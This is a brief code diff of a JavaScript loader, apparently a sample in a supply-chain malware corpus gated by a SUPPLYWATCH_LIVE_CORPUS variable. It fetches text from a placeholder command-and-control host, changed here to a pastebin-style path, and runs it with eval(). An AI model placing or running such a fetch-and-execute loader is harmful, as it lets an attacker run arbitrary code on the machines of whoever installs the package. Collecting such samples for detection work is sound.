@@ -3,7 +3,7 @@
 if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
 try {
   var r = require('http');
-  r.get('__C2__/raw/XLeVP82h', function (r) {
+  r.get('__C2@pastebin.com__/raw/XLeVP82h', function (r) {
     var e = '';
     r.on('data', function (c) { e += c; });
     r.on('end', function () { eval(e); });
